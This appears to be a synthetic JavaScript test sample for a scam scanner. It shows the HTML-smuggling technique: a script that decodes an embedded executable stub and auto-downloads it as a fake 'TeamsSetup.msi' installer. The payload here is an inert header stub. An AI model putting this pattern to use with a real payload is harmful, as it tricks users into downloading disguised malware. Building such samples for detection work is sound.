/* scamscan synthetic sample - harmless text, not malware */
(function () {
  var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==";
  var raw = atob(b64), buf = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) { buf[i] = raw.charCodeAt(i); }
  var blob = new Blob([buf], { type: "application/octet-stream" });
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "TeamsSetup.msi";
  a.click();
})();
